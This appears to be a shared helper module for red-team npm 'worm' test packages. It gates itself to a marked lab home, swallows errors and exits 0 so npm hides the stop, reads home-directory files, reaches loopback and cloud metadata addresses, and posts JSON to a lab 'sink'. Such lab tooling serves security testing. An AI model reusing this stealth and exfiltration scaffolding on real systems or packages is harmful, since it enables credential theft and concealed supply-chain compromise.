// What the attack packages of the red team share: where to send, how to read, how to call a truth binary.
//
// The package that holds this file also has lab.json ({home, sink, cdn, registry}) from the test
// that published it. Nothing happens outside that lab: as root, in another home, or in a home
// without the lab's mark, the script ends. Like a worm, it swallows every error and ends with 0, so
// that npm does not show that it was stopped.
'use strict';
const fs = require('fs');
const net = require('net');
const http = require('http');
const path = require('path');
const { spawnSync } = require('child_process');

const lab = JSON.parse(fs.readFileSync(path.join(__dirname, 'lab.json'), 'utf8'));
if (process.getuid() === 0 || process.env.HOME !== lab.home || !fs.existsSync(path.join(lab.home, '.wormsign-lab'))) {
  process.exit(0);
}
process.on('uncaughtException', () => process.exit(0));
process.on('unhandledRejection', () => process.exit(0));

const home = (name) => path.join(lab.home, name);

// The file's text, or '' when it cannot be read. Worms go on to the next one.
const read = (name) => {
  try { return fs.readFileSync(path.isAbsolute(name) ? name : home(name), 'utf8'); } catch { return ''; }
};

// Loopback, and the metadata addresses, which exist only in the test's own network namespace.
const of_the_lab = (host) => /^(127\.|::1$|::ffff:127\.)/.test(host) ||
  (lab.inside && /^(169\.254\.|fd00:ec2::|metadata\.google\.internal$)/.test(host));

const request = (method, where, body, headers) => new Promise((ok) => {
  const url = new URL(where);
  const host = url.hostname.replace(/^\[|\]$/g, '');
  if (!of_the_lab(host)) return ok({ status: 0, text: '' });
  const r = http.request({ host, port: url.port, path: url.pathname + url.search, method, headers, timeout: 5000 }, (a) => {
    const parts = [];
    a.on('data', (d) => parts.push(d));
    a.on('end', () => ok({ status: a.statusCode, body: Buffer.concat(parts), text: Buffer.concat(parts).toString() }));
  });
  r.on('timeout', () => r.destroy());
  r.on('error', (e) => ok({ status: 0, text: '', error: e.code }));
  r.end(body);
});

const post = (where, data) => request('POST', `http://${lab.sink}${where}`, JSON.stringify(data),
  { 'content-type': 'application/json' });

// Runs a truth binary that the package ships; its output is the script's own.
const truth = (name, ...args) => spawnSync(path.join(__dirname, 'bin', name), args, { stdio: 'inherit' });

module.exports = { lab, home, read, request, post, truth, fs, net, path };
